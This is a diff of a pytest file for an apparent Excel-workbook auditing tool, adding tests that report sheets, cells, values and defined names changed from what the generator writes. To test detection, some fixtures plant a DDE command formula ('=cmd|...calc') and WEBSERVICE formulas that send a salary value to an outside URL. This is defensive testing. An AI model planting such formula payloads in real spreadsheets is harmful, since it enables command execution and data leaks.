@@ -293,24 +293,14 @@ def test_a_wrong_extension(tmp_path):
         f"mlworth-xl: error: {path}: workbook: unknown file type '.csv'; allowed: .xlsx, .xlsm\n")
 
 
-def test_a_missing_sheet(fresh, tmp_path):
-    wb = openpyxl.load_workbook(fresh)
-    wb.security = None
-    del wb[layout.LOANS]
-    path = tmp_path / "t.xlsx"
-    wb.save(path)
-    result = run("check", str(path))
-    assert result.exit_code == 2
-    assert result.stderr == (f"mlworth-xl: error: {path}: workbook: sheet 'Loans' is missing; "
-                             "this is not a comparison workbook written by `mlworth-xl "
-                             "workbook`\n")
-
-
 def test_some_other_workbook(tmp_path):
     path = tmp_path / "budget.xlsx"
     openpyxl.Workbook().save(path)
-    with pytest.raises(InputError, match="sheet 'Inputs' is missing"):
+    with pytest.raises(InputError, match="it has none of the sheets Inputs, Programs, Summary, "
+                       "Cash flows, Loans; this is not a comparison workbook"):
         audit(path)
+    result = run("check", str(path))
+    assert result.exit_code == 2 and result.stderr.count("\n") == 1
 
 
 def test_a_zip_bomb_is_refused(tmp_path):
@@ -354,7 +344,8 @@ def test_options_with_a_rap_block_may_leave_rap_and_others_may_not_join(tmp_path
 
     records = Programs.default().records()[:3]
     records[1] = replace(records[1], repayment_plan=2)  # option 2 on RAP: one block
-    path = write_workbook(tmp_path / "rap.xlsx", Programs.from_records(records))
+    # no Risk sheet: its values, simulated for the inputs as written, go stale when they change
+    path = write_workbook(tmp_path / "rap.xlsx", Programs.from_records(records), risk=None)
     assert audit(path).findings == []
     # the block stays live: option 2 switched to fixed (0) is a workbook as generated for it
     left = edited(path, tmp_path / "left.xlsx",
@@ -364,3 +355,263 @@ def test_options_with_a_rap_block_may_leave_rap_and_others_may_not_join(tmp_path
     sheet, ref = program("repayment_plan", "E")
     joined = edited(path, tmp_path / "joined.xlsx", **{sheet: {ref: 2}})
     assert [(f.cell, f.kind) for f in audit(joined).findings] == [(f"{sheet}!{ref}", "input")]
+
+
+# --- what else the file vouches for: sheets, shapes, values, the Risk sheet -----------------
+
+def check_lines(path: Path) -> tuple[int, list[str]]:
+    result = run("check", str(path))
+    assert "Traceback" not in result.output
+    return result.exit_code, result.stdout.splitlines()
+
+
+def reshaped(src: Path, dest: Path, change) -> Path:
+    """``src`` after ``change(workbook)``: sheets added, renamed, deleted, rows inserted …"""
+    wb = openpyxl.load_workbook(src)
+    wb.security = None  # the structure lock, as a user lifts it before such a change
+    change(wb)
+    wb.save(dest)
+    return dest
+
+
+def _add_sheet(wb, formulas):
+    ws = wb.create_sheet("Notes")
+    for k, formula in enumerate(formulas, start=1):
+        ws.cell(row=k, column=1, value=formula)
+
+
+def test_an_added_sheet_and_its_formulas_are_reported(fresh, tmp_path):
+    # DDE and web-service formulas: what a doctored file uses to run a command or leak data
+    formulas = ["=cmd|' /C calc'!A0", '=WEBSERVICE("http://example.com/?"&Salary)']
+    path = reshaped(fresh, tmp_path / "t.xlsx", lambda wb: _add_sheet(wb, formulas))
+    code, lines = check_lines(path)
+    assert code == 1
+    assert lines[1:] == [
+        "  Notes: a sheet the generator does not write; allowed: Guide, Inputs, Programs, "
+        "Summary, Risk, Cash flows, Loans, Sources",
+        "  Notes!A1: a formula where the generator writes none: =cmd|' /C calc'!A0",
+        '  Notes!A2: a formula where the generator writes none: '
+        '=WEBSERVICE("http://example.com/?"&Salary)']
+
+
+@pytest.mark.parametrize(("change", "finding"), [
+    (lambda wb: setattr(wb[layout.SUMMARY], "title", "Results"),
+     "Results: sheet 'Summary' renamed to 'Results'"),
+    (lambda wb: wb.remove(wb[layout.LOANS]), "Loans: sheet is missing"),
+    (lambda wb: wb.remove(wb[layout.SOURCES]), "Sources: sheet is missing"),
+    (lambda wb: wb.move_sheet(layout.SOURCES, offset=-7),
+     "workbook: sheets in the order Sources, Guide, Inputs, Programs, Summary, Risk, Cash flows, "
+     "Loans; the generator writes Guide, Inputs, Programs, Summary, Risk, Cash flows, Loans, "
+     "Sources"),
+    (lambda wb: wb[layout.SUMMARY].insert_cols(3),
+     "Summary!C:C: a column inserted at column C; the cells after it no longer are where the "
+     "generator writes them (the sheet's cells are not compared one by one)"),
+    (lambda wb: wb[layout.LOANS].insert_rows(5), "Loans!5:5: a row inserted at row 5;"),
+    # columns B to E hold cells in the same rows: deleting any one of them looks the same
+    (lambda wb: wb[layout.CASH_FLOWS].delete_cols(4), "Cash flows!E:E: a column deleted among "
+     "columns B to E;"),
+    (lambda wb: wb[layout.INPUTS].delete_rows(6), "Inputs!13:13: a row deleted among rows 4 "
+     "to 13;"),
+], ids=["renamed", "deleted", "deleted-last", "moved", "column-inserted", "row-inserted",
+        "column-deleted", "row-deleted"])
+def test_a_changed_structure_is_a_finding_that_names_it(fresh, tmp_path, change, finding):
+    code, lines = check_lines(reshaped(fresh, tmp_path / "t.xlsx", change))
+    assert code == 1, lines
+    assert lines[1].startswith("  " + finding), lines[:3]
+
+
+def _risk_cell(key: str, option: int = 0) -> str:
+    from mlworth_xl.workbook.risk_sheet import COLUMNS, FIRST_ROW
+
+    k = next(k for k, c in enumerate(COLUMNS, start=1) if c.key == key)
+    return f"{get_column_letter(k)}{FIRST_ROW + option}"
+
+
+def test_an_edited_risk_probability_is_reported(fresh, tmp_path):
+    ref = _risk_cell("target_probability")
+    value = openpyxl.load_workbook(fresh)["Risk"][ref].value
+    assert 0 < value < 1  # a share of the 100,000 draws, as simulated
+    path = edited(fresh, tmp_path / "t.xlsx", Risk={ref: 0.99})
+    assert [str(f) for f in audit(path).findings] == [
+        f"Risk!{ref}: holds the number 0.99; the generator writes the number {value:g}"]
+
+
+def test_edited_risk_draws_are_reported(fresh, tmp_path):
+    # the stamp says 1,000 draws: the values, simulated with 100,000, are not those
+    path = edited(fresh, tmp_path / "t.xlsx", Risk={"B4": 1000})
+    [finding] = audit(path).findings
+    assert finding.cell == "Risk" and finding.kind == "value"
+    assert "values differ from a simulation of this workbook's inputs with the draws and seed " \
+           "of its stamp" in finding.message
+
+
+@pytest.mark.parametrize(("value", "shown"), [
+    ("lots", "the text 'lots'"), (10**9, "the number 1e+09"), (0.5, "the number 0.5")])
+def test_a_risk_stamp_that_is_not_allowed_is_reported(fresh, tmp_path, value, shown):
+    path = edited(fresh, tmp_path / "t.xlsx", Risk={"B4": value})
+    assert [str(f) for f in audit(path).findings] == [
+        f"Risk!B4: the stamp's draws: {shown} is not allowed; allowed: a whole number from 1 to "
+        "10,000,000 (the Risk sheet's values are not checked)"]
+
+
+def test_a_formula_added_on_the_risk_sheet_is_reported(fresh, tmp_path):
+    ref = _risk_cell("target_probability", 1)
+    path = edited(fresh, tmp_path / "t.xlsx", Risk={ref: "=1-0"})
+    assert [str(f) for f in audit(path).findings] == [
+        f"Risk!{ref}: a formula where the generator writes none: =1-0"]
+
+
+def test_an_input_edited_leaves_the_risk_and_sources_sheets_stale_and_says_so(fresh, tmp_path):
+    # 52,000 is the cited CMU tuition (Sources lists it): 60,000 is no cited figure
+    sheet, ref = program("tuition_per_year")
+    path = edited(fresh, tmp_path / "t.xlsx", **{sheet: {ref: 60_000}})
+    findings = audit(path).findings
+    assert [f.cell for f in findings] == ["Risk", "Sources"]
+    assert findings[0].message.startswith("48 values differ from a simulation of this "
+                                          "workbook's inputs with the draws and seed of its stamp")
+    assert findings[1].message.startswith("163 values differ from the sources of this "
+                                          "workbook's inputs (first Sources!A10: ")
+    assert all(f.message.endswith("run `mlworth-xl workbook` again to refresh it")
+               for f in findings)
+
+
+@pytest.mark.parametrize(("sheet", "ref", "value", "message"), [
+    # MonthsPerYear (Inputs, constants): the loan formulas divide by it
+    (layout.INPUTS, f"B{layout.INPUTS_CONSTANT_ROW}", 13,
+     "holds the number 13; the generator writes the number 12"),
+    (layout.SUMMARY, "A1", "Results", "holds the text 'Results'; the generator writes the text"),
+    (layout.LOANS, "A5", None, "emptied; the generator writes the text"),
+    (layout.GUIDE, "H3", "note", "holds the text 'note' where the generator writes nothing"),
+])
+def test_an_edited_value_that_is_no_input_is_reported(fresh, tmp_path, sheet, ref, value,
+                                                      message):
+    path = edited(fresh, tmp_path / "t.xlsx", **{sheet: {ref: value}})
+    findings = audit(path).findings
+    assert [(f.cell, f.kind) for f in findings] == [(f"{sheet}!{ref}", "value")]
+    assert findings[0].message.startswith(message)
+
+
+@pytest.mark.libreoffice
+def test_an_edited_cached_value_on_loans_is_reported(calculated, tmp_path, soffice):
+    # the need (simple financing) row: no model figure of its own; LibreOffice's value is
+    need = f"{get_column_letter(layout.OPTION_COL)}{layout.LOANS_ROW['need']}"
+    path = cached(calculated, tmp_path / "t.xlsx", layout.LOANS, need, "123")
+    [finding] = audit(path).findings
+    assert finding.cell == f"Loans!{need}" and finding.kind == "result"
+    assert finding.message.startswith("shows 123 but its formula gives ")
+    assert finding.message.endswith("for this workbook's inputs (as LibreOffice calculates it)")
+
+
+# --- property: a generated file passes, any single edit is reported -------------------------
+
+@pytest.fixture(scope="module")
+def cells(fresh):
+    """The fresh workbook loaded once, and its cells: formulas and values that are no inputs."""
+    from mlworth_xl.audit import _Audit
+
+    run_ = _Audit(fresh)
+    run_.read_inputs()
+    wb = openpyxl.load_workbook(fresh)
+    found = sorted((ws.title, c.coordinate) for ws in wb.worksheets for row in ws.iter_rows()
+                   for c in row if c.value is not None and type(c).__name__ == "Cell"
+                   and f"{ws.title}!{c.coordinate}" not in run_.input_cells)
+    return wb, found
+
+
+def _changed(value):
+    if isinstance(value, bool):
+        return not value
+    if isinstance(value, int | float):
+        return value + 1 if abs(value) < 1e6 else value * 1.01
+    if isinstance(value, str) and value.startswith("="):
+        return value + "+0"
+    return f"{value} (edited)"
+
+
+def test_property_any_generated_workbook_passes(tmp_path_factory):
+    from hypothesis import HealthCheck, given, settings
+    from hypothesis import strategies as st
+
+    from tests.workbook_support import random_sets
+
+    sets = random_sets(3, seed=7)
+    folder = tmp_path_factory.mktemp("generated")
+
+    @settings(max_examples=3, deadline=None, suppress_health_check=list(HealthCheck))
+    @given(st.integers(0, len(sets) - 1), st.booleans())
+    def passes(k, with_risk):
+        programs, person = sets[k]
+        path = write_workbook(folder / f"w{k}{with_risk}.xlsx", programs, person, force=True,
+                              risk=replace_risk(with_risk))
+        assert audit(path).findings == []
+
+    passes()
+
+
+def replace_risk(on: bool):
+    from mlworth_xl.workbook.risk_sheet import RiskSettings
+
+    return RiskSettings(draws=2_000, seed=11) if on else None
+
+
+def test_property_any_single_edit_is_reported(cells, tmp_path_factory):
+    from hypothesis import HealthCheck, given, settings
+    from hypothesis import strategies as st
+
+    wb, found = cells
+    folder = tmp_path_factory.mktemp("edits")
+
+    @settings(max_examples=12, deadline=None, suppress_health_check=list(HealthCheck))
+    @given(st.sampled_from(found))
+    def reported(where):
+        sheet, ref = where
+        before = wb[sheet][ref].value
+        wb[sheet][ref] = _changed(before)
+        try:
+            wb.save(folder / "t.xlsx")
+        finally:
+            wb[sheet][ref] = before
+        findings = audit(folder / "t.xlsx").findings
+        assert findings, where
+        assert any(f.cell in (f"{sheet}!{ref}", sheet) for f in findings), (where, findings)
+
+    reported()
+
+
+@pytest.mark.libreoffice
+def test_property_any_edited_cached_value_is_reported(calculated, tmp_path_factory, soffice):
+    from hypothesis import HealthCheck, given, settings
+    from hypothesis import strategies as st
+
+    values = openpyxl.load_workbook(calculated, data_only=True)
+    formulas = openpyxl.load_workbook(calculated)
+    numeric = sorted((ws.title, c.coordinate) for ws in formulas.worksheets
+                     for row in ws.iter_rows() for c in row if c.data_type == "f"
+                     and isinstance(values[ws.title][c.coordinate].value, int | float)
+                     and not isinstance(values[ws.title][c.coordinate].value, bool))
+    folder = tmp_path_factory.mktemp("cached")
+
+    @settings(max_examples=6, deadline=None, suppress_health_check=list(HealthCheck))
+    @given(st.sampled_from(numeric))
+    def reported(where):
+        sheet, ref = where
+        value = values[sheet][ref].value
+        path = cached(calculated, folder / "t.xlsx", sheet, ref, repr(_changed(value)))
+        assert f"{sheet}!{ref}" in [f.cell for f in audit(path).findings]
+
+    reported()
+
+
+def _renamed_target(wb):
+    from openpyxl.workbook.defined_name import DefinedName
+
+    wb.defined_names["DiscountRate"] = DefinedName("DiscountRate", attr_text="Inputs!$B$99")
+    wb.defined_names["Leak"] = DefinedName("Leak", attr_text='WEBSERVICE("http://x")')
+
+
+def test_a_defined_name_pointed_elsewhere_or_added_is_reported(fresh, tmp_path):
+    original = openpyxl.load_workbook(fresh).defined_names["DiscountRate"].attr_text
+    path = reshaped(fresh, tmp_path / "t.xlsx", _renamed_target)
+    assert sorted(str(f) for f in audit(path).findings) == [
+        f"name DiscountRate: refers to Inputs!$B$99; the generator writes {original}",
+        'name Leak: a defined name the generator does not write: Leak = WEBSERVICE("http://x")']
